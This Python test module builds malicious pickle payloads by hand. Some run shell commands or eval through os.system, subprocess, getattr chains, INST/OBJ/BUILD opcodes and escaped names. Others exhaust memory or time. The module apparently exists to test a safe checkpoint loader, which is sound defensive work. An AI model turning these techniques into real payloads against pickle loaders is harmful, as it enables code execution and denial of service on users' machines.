"""Pickles that want to run something, or to fill the memory; written opcode by opcode."""

import importlib
import pickle
import struct

import numpy as np

STOP = b"."
PROTO2 = b"\x80\x02"
PROTO4 = b"\x80\x04"


def text(value):
    data = value.encode()
    return b"X" + struct.pack("<I", len(data)) + data


def number(value):
    return b"\x8a" + bytes([9]) + value.to_bytes(9, "little", signed=True)


def name(module, attribute):
    return f"c{module}\n{attribute}\n".encode()


def call(function, *arguments):
    """Opcodes that leave on the stack what the function returns."""
    return function + b"(" + b"".join(arguments) + b"tR"


def stored(code, protocol=PROTO2):
    """A whole pickle of a dictionary in which the code's result lies beside other things."""
    return protocol + b"}(" + text("epoch") + b"K\x03" + text("x") + code + b"u" + STOP


class Calls:
    """Pickles as a call, the way that Python's own pickler writes one."""

    def __init__(self, function, *arguments):
        self.parts = function, arguments

    def __reduce__(self):
        return self.parts


def python_calls(function, protocol, *arguments):
    module, attribute = function.rsplit(".", 1)
    found = getattr(importlib.import_module(module), attribute)
    return pickle.dumps({"x": Calls(found, *arguments)}, protocol=protocol)


def wanting(canary):
    """Pickles that ask for code: title, bytes, and the name that must be told."""
    yield from _plainly_wanting(canary)
    yield from _craftily_wanting(canary)


def _plainly_wanting(canary):
    """By the name of a function, as pickle itself writes it."""
    shell = f"touch '{canary}'"
    python = f"open({str(canary)!r}, 'w')"
    eval_ = name("builtins", "eval")
    yield "os.system", python_calls("os.system", 2, shell), "posix.system"
    yield "os.system, protocol 4", python_calls("os.system", 4, shell), "posix.system"
    yield "os.system, as text", f"cposix\nsystem\n(S{shell!r}\ntR.".encode(), "posix.system"
    yield "builtins.eval", python_calls("builtins.eval", 2, python), "builtins.eval"
    yield "builtins.exec", python_calls("builtins.exec", 2, python), "builtins.exec"
    run = python_calls("subprocess.check_output", 2, ["touch", str(canary)])
    yield "subprocess", run, "subprocess.check_output"
    yield "importlib", python_calls("importlib.import_module", 2, "this"), "importlib.import_module"
    yield (
        "torch.hub",
        python_calls("torch.hub.load", 2, "evil/repository", "model"),
        "torch.hub.load",
    )
    nested = python_calls("torch.storage._load_from_bytes", 2, b"x")
    yield "a checkpoint inside", nested, "torch.storage._load_from_bytes"
    yield "a pickle inside", stored(call(name("pickle", "loads"), text("x"))), "pickle.loads"
    chain = call(call(name("builtins", "getattr"), name("os", "path"), text("system")), text(shell))
    yield "a chain of getattr", stored(chain), "builtins.getattr, os.path"
    hidden = call(name("functools", "partial"), eval_, text(python))
    yield "functools.partial", stored(call(hidden)), "functools.partial, builtins.eval"


def _craftily_wanting(canary):
    """By ways that no pickler takes."""
    shell = f"touch '{canary}'"
    python = f"open({str(canary)!r}, 'w')"
    eval_ = name("builtins", "eval")
    yield "INST", stored(b"(" + text(shell) + b"iposix\nsystem\n"), "posix.system"
    yield "OBJ", stored(b"(" + name("posix", "system") + text(shell) + b"o"), "posix.system"
    yield "NEWOBJ", stored(eval_ + b"(" + text(python) + b"t\x81"), "builtins.eval"
    more = eval_ + b"(" + text(python) + b"t}\x92"
    yield "NEWOBJ_EX", stored(more, PROTO4), "builtins.eval"
    state = b")\x81}" + text("__setstate__") + eval_ + b"s" + b"b"
    yield "BUILD", stored(name("argparse", "Namespace") + state), "builtins.eval"
    yield (
        "names of Python 2",
        stored(call(name("__builtin__", "eval"), text(python))),
        "builtins.eval",
    )
    escaped = stored(call(b"cpo\\x73ix\nsystem\n", text(shell)))
    yield "escapes in a name", escaped, "posix.system"
    dotted = stored(call(name("collections", "abc.sys.modules.clear")))
    yield "a path as a name", dotted, "collections.abc.sys.modules.clear"
    put_aside = text("posix") + b"q\x000" + text("system") + b"q\x010"
    recalled = put_aside + b"h\x00h\x01\x93(" + text(shell) + b"tR"
    yield "names put aside", PROTO4 + recalled + STOP, "posix.system"
    thrown = call(name("posix", "system"), text(shell)) + b"0N"
    yield "a result thrown away", stored(thrown), "posix.system"
    broken = PROTO2 + call(name("posix", "system"), text(shell)) + b"\xff"
    yield "breaks off after the call", broken, "posix.system"
    objects = pickle.dumps({"x": np.array([Calls(eval, python)], dtype=object)}, protocol=2)
    yield "an array of objects", objects, "builtins.eval"
    long = stored(call(name("x" * 5000, "\x1b[31m" + "y" * 5000)))
    yield "a very long name", long, "x" * 80


def tricky(canary):
    """Pickles that ask for nothing forbidden by name: title, bytes, and the reason."""
    yield from _crafty_calls()
    yield from _crafty_arrays(canary)
    yield from _too_much()
    yield from _broken()


def _crafty_calls():
    """Names and calls that are made up."""
    ordered, encode = name("collections", "OrderedDict"), name("_codecs", "encode")
    computed = call(encode, text("posix"), text("latin1")) + text("system") + b"\x93)R"
    yield "a name made up", stored(computed, PROTO4), "makes up.*the name"
    yield "a call of a result", stored(call(call(ordered))), "calls what it has made itself"
    yield "a number of the registry", stored(b"\x82\x01"), "code by number"
    yield "a text reference", stored(b"Pmodel\n"), "outside itself"
    yield "a buffer from outside", stored(b"\x97", b"\x80\x05"), "outside itself"
    yield "a class changed", stored(ordered + b"}b"), "changes what it has not made"
    slots = ordered + b")RN}" + text("clear") + b"Ns\x86b"
    yield "slots changed", stored(slots), "changes how a container works"
    yield "a list changed", stored(b"]}b"), "changes the inside of a list"
    yield "a type called", stored(call(name("builtins", "list"))), "builtins.list, which may only"


def _crafty_arrays(canary):
    """Arrays that hold objects, or more than is there."""
    python = f"open({str(canary)!r}, 'w')"
    encode = name("_codecs", "encode")
    wrapped = name("numpy", "dtype") + b"(" + text("O8") + b"\x89\x88tR"
    data = call(encode, text(python), text("latin1"))
    scalar = call(name("numpy.core.multiarray", "scalar"), wrapped, data)
    yield "a numpy object", stored(scalar), "numpy array of objects"
    yield "an array of None", stored(pickle.dumps(np.array([None]), 2)[2:-1]), "array of objects"
    record = np.zeros(2, dtype=[("a", "f4"), ("b", "O")])
    yield "numpy records", stored(pickle.dumps(record, 2)[2:-1]), "no plain numbers"
    float_ = name("numpy", "dtype") + b"(" + text("f8") + b"\x89\x88tR"
    array = name("numpy.core.multiarray", "_reconstruct")
    huge = call(array, name("numpy", "ndarray"), b"(" + number(10**12) + b"t", b"U\x01b")
    yield "a huge array", stored(huge), "array in a way that no model"
    empty = call(
        array, name("numpy", "ndarray"), b"(K\x00t", call(encode, text("b"), text("latin1"))
    )
    wide = b"(K\x01" + b"(" + number(10**12) + b"t" + float_ + b"\x89"
    filled = empty + wide + call(encode, text("12345678"), text("latin1")) + b"tb"
    yield "an array without its numbers", stored(filled), "another size than it says"
    array_ = pickle.dumps(np.zeros(2), 2)[2:-1] + b"K\x00"
    filled = array_ + b"]" + b"q\x01h\x01\x86" * 60 + b"s"
    yield "an array filled with doubled tuples", stored(filled), "fills what is no container"


def _too_much():
    """What takes memory or time without end."""
    encode = name("_codecs", "encode")
    slow = call(encode, text("ü" * 100_000), text("punycode"))
    yield "a slow codec", stored(slow), "encodes text in a way"
    once = call(encode, b"h\x07", text("latin1"))
    copies = text("x" * 1_000_000) + b"q\x07" + b"0(" + once * 40 + b"l"
    yield "copied text", stored(copies), "copies the same things"
    many = b"](" + b"K\x01" * 100_000 + b"eq\x070("
    many += call(name("builtins", "set"), b"h\x07") * 300 + b"l"
    yield "copied lists", stored(many), "copies the same things"
    yield "a place far away in the memo", stored(b"Nr\xff\xff\xff\x7f"), "more memory"
    digits = b"\x8b" + struct.pack("<i", 500_000) + b"\x01" * 500_000
    yield "a number of a million digits", stored(digits), "thousands of digits"
    doubled = b"q\x01h\x01\x86" * 60
    yield "tuples doubled as a key", stored(b"})" + doubled + b"Ns"), "as a key"
    yield "tuples nested as a key", stored(b"})" + b"\x85" * 100_000 + b"Ns"), "as a key"
    yield "lists nested 100 000 deep", stored(b"]" * 100_000 + b"a" * 99_999), "nested too deeply"
    yield "lists doubled 60 times", stored(b"]" + doubled), "unfolds to too much"
    yield "a list in itself", stored(b"]q\x05h\x05a"), "nested too deeply"
    yield "millions of steps", stored(b"N0" * 2_000_000 + b"N"), "too long to read"
    yield "a text of four gigabytes", PROTO2 + b"X\xff\xff\xff\xffabc" + STOP, "cannot be read"
    yield (
        "a frame of exabytes",
        b"\x80\x04\x95" + b"\xff" * 7 + b"\x7f" + b"N" + STOP,
        "cannot be read|protocol 4",
    )


def _broken():
    """What is no pickle in the end."""
    yield "nothing on the stack", PROTO2 + b"00000" + STOP, "cannot be read"
    yield "an unknown opcode", PROTO2 + b"\xfe" + STOP, "cannot be read"
    yield "no end", PROTO2 + b"}(K\x01K\x02", "cannot be read"
